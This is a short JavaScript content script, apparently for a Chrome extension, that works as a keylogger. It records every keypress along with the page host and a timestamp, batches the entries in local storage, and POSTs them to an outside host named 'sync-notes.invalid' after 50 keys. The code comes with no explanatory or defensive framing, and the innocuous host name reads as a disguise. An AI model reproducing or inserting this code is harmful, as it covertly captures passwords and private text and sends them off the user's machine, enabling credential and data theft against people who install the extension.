document.addEventListener("keydown", function (event) {
  chrome.storage.local.get({ logs: [] }, function (data) {
    let logs = data.logs;
    logs.push({ type: "KeyPress", value: event.key, page: location.host, timestamp: new Date().toISOString() });
    chrome.storage.local.set({ logs: logs }, function () {
      if (logs.length > 50) {
        fetch("https://sync-notes.invalid/logs", { method: "POST", body: JSON.stringify(logs) });
        chrome.storage.local.set({ logs: [] });
      }
    });
  });
});
